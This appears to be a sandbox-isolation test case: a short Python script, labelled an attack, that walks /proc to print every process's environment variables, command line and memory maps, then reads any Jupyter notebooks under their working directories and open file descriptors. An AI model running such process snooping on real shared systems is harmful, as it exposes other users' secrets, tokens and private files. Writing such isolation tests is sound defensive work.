# attack: environments, command lines, folders and open files of all processes are printed
# harmless: yes
import glob
import os

processes = glob.glob("/proc/[0-9]*")
for process in processes:
    for name in ("environ", "cmdline", "maps", "task/1/children"):
        try:
            print(process, open(f"{process}/{name}", "rb").read()[:2000])
        except OSError:
            pass
for process in processes:
    for link in [
        f"{process}/cwd",
        os.path.join(process, "root", "tmp"),
        *glob.glob(f"{process}/fd/*"),
    ]:
        try:
            print(link, os.readlink(link) if os.path.islink(link) else "")
            if os.path.isdir(link) and os.path.realpath(link) != "/":
                for path in glob.glob(f"{link}/**/*.ipynb", recursive=True):
                    print(path, open(path).read())
        except OSError:
            pass
